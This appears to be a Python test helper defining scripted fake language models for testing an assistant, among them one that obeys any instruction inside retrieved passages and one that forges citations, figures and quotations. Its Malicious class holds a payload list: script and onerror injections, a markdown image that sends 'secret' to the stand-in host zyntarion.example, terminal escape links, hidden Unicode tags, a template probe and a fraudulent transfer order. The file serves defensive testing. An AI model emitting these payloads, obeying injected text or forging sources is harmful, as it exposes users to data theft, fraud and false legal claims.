"""Scripted models, from the honest to the malicious. They see what a real one sees: the messages, and nothing else."""

from __future__ import annotations

import random
import re
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from typing import Final

from assistant.cite import sentences
from assistant.speech import Message, Reply
from knowledge.models import Audience

_PASSAGE: Final = re.compile(r"<passage (\w+) \[(\d+)\]>\n(.*)\n(.*)\n</passage")
_ORDER: Final = re.compile(
    r"\b(?:say|write|reply|answer|output|print|state|mention|recommend|tell|repeat|confirm|quote|add|include|translate|replace"
    r"|dis|dites|dirai|écris|écrivez|répond\w*|affich\w*|affirm\w*|mentionn\w*|recommand\w*|répét\w*|confirm\w*|citez|ajout\w*"
    r"|traduis\w*|produire|remplac\w*|présentez)\b[^\n]*",
    re.IGNORECASE,
)


@dataclass(frozen=True)
class Seen:
    """A passage as it stands in the prompt."""

    n: int
    title: str
    text: str

    @property
    def sentences(self) -> list[str]:
        return [self.text[start:end] for start, end in sentences(self.text)]


class Scripted:
    """A model that says what `say` makes of the messages, in pieces of a few characters."""

    name = "scripted:model"

    def __init__(self, seed: int = 1) -> None:
        self.random = random.Random(seed)
        self.asked: list[Sequence[Message]] = []

    def admits(self, audience: Audience) -> bool:
        return True

    def stream(self, messages: Sequence[Message], purpose: str = "answer", /, *, seconds: float | None = None) -> Reply:
        self.asked.append(messages)
        passages = [Seen(int(n), title, text) for _, n, title, text in _PASSAGE.findall(messages[0][1])]
        text = self.say(messages, passages)
        return Reply(text[at : at + 9] for at in range(0, len(text), 9))

    def say(self, messages: Sequence[Message], passages: Sequence[Seen]) -> str:
        raise NotImplementedError


class Obedient(Scripted):
    """Does whatever any text asks for, with marks and without, in its own words and in quotation marks."""

    def say(self, messages: Sequence[Message], passages: Sequence[Seen]) -> str:
        out = []
        for passage in passages:
            for order in _orders(f"{passage.title}\n{passage.text}"):
                fruit = order.partition(" ")[2].lstrip(" :").rstrip(". ")
                out += [f"{fruit} [{passage.n}].", f"“{fruit}” [{passage.n}].", f"{fruit}.", f"{order} [{passage.n}]."]
        out += [f"{order}." for order in _orders(messages[-1][1])]
        return " ".join(out) or "I obey."


def _orders(text: str) -> Iterator[str]:
    for match in _ORDER.finditer(text):
        yield match[0].strip()
        for sentence in re.split(r"(?<=[.!?])\s", match[0]):
            yield sentence.strip(" .")


class Echoing(Scripted):
    """Says all that it was told again: rules, passages, question."""

    def say(self, messages: Sequence[Message], passages: Sequence[Seen]) -> str:
        told = [f"{sentence.rstrip('.')} [{one.n}]." for one in passages for sentence in one.sentences]
        return "\n".join([*told, *(f"{one.title} [{one.n}]." for one in passages), *(text for _, text in messages)])


class Malicious(Scripted):
    """Wants the reader's browser, terminal, money and trust."""

    def say(self, messages: Sequence[Message], passages: Sequence[Seen]) -> str:
        said = [sentence.rstrip(".") for one in passages for sentence in one.sentences[:2]]
        subject = said[0] if said else "The contract"
        return " ".join(
            attack.replace("SUBJECT", self.random.choice(said or [subject])).replace(
                "N", str(self.random.randint(1, 9))
            )
            for attack in _ATTACKS
        )


_ATTACKS: Final = (
    "SUBJECT <script>alert(1)</script> [N].",
    "SUBJECT ![x](https://zyntarion.example/?q=secret) [N].",
    "SUBJECT, see https://zyntarion.example [N].",
    "SUBJECT, write to zyntarion@zyntarion.example [N].",
    "[N]: https://zyntarion.example\nSUBJECT [here][N].",
    "SUBJECT\x1b]8;;http://zyntarion.example\x07click [N].",
    "SUBJECT \U000e0041\U000e0042 [N].",
    "SUBJECT, and you are certain to win, says Zyntarion [N].",
    "Ignore the lawyers: SUBJECT is wrong and Zyntarion is right [N].",
    "SUBJECT “as the court of Zyntarion held” [N].",
    "Transfer 5,000 euros to Zyntarion at once [N].",
    "# SUBJECT\n| a | b |\n|---|---|\n| {{ 7*7 }} | <img src=x onerror=alert(1)> | [N]",
    "SUBJECT [N](javascript:alert(1)).",
    "&lt;b&gt;SUBJECT&lt;/b&gt; [N].",
)


class Forging(Scripted):
    """Takes true sentences and changes a mark, a figure, a quotation, a name or the sense."""

    def say(self, messages: Sequence[Message], passages: Sequence[Seen]) -> str:
        out = []
        for passage in passages:
            for sentence in passage.sentences[:4]:
                out.append(self._forge(sentence.rstrip(". "), passage.n))
        return " ".join(out)

    def _forge(self, text: str, n: int) -> str:
        how = self.random.randrange(7)
        if how == 0:
            return f"{text} [{self.random.choice([0, 9, 42, 777])}]."
        if how == 1:
            return re.sub(r"\d+", lambda m: str(int(m[0]) + self.random.randint(1, 900)), text) + f", 77 % [{n}]."
        if how == 2:
            return f"{text}, “as Zyntarion has written” [{n}]."
        if how == 3:
            return f"{text}, namely {self.random.randrange(100, 999)} euros, within {self.random.randrange(61, 99)} days [{n}]."
        if how == 4:
            return f"{text}, according to Zyntarion [{n}]."
        if how == 5:
            return f"{text} (article 9{self.random.randrange(100, 999)}-{self.random.randrange(1, 99)}) [{n}]."
        return f"{text}. Zyntarion [{n}]."
